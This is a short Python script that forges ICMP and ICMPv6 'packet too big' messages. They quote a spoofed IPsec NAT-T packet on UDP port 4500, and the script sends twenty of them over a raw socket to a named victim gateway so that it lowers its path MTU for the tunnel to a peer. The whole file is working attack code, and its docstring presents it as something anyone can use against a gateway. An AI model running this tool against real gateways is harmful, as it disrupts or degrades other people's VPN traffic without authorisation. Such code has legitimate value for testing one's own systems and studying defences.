"""Sends "too big" messages about a tunnel's packets to a gateway, as anybody could: forge_too_big.py VICTIM PEER MTU.

VICTIM is the gateway that shall believe it; the messages quote a packet of its own, to PEER, port 4500 on both sides.
"""
import ipaddress
import socket
import struct
import sys


def checksum(data):
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total > 0xFFFF:
        total = (total >> 16) + (total & 0xFFFF)
    return ~total & 0xFFFF


def main(victim, peer, mtu):
    source, destination = ipaddress.ip_address(victim), ipaddress.ip_address(peer)
    udp = struct.pack("!HHHH", 4500, 4500, 1440, 0) + bytes(64)
    if source.version == 4:
        header = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 1460, 1, 0x4000, 64, 17, 0, source.packed, destination.packed)
        header = header[:10] + struct.pack("!H", checksum(header)) + header[12:]
        body = struct.pack("!HH", 0, mtu) + header + udp
        message = struct.pack("!BBH", 3, 4, checksum(struct.pack("!BBH", 3, 4, 0) + body)) + body
        raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
    else:
        header = struct.pack("!IHBB16s16s", 6 << 28, 1440, 17, 64, source.packed, destination.packed)
        # The kernel fills in the checksum (RFC 3542 section 3.1).
        message = struct.pack("!BBHI", 2, 0, 0, mtu) + header + udp
        raw = socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_ICMPV6)
    for _ in range(20):
        raw.sendto(message, (victim, 0))


main(sys.argv[1], sys.argv[2], int(sys.argv[3]))
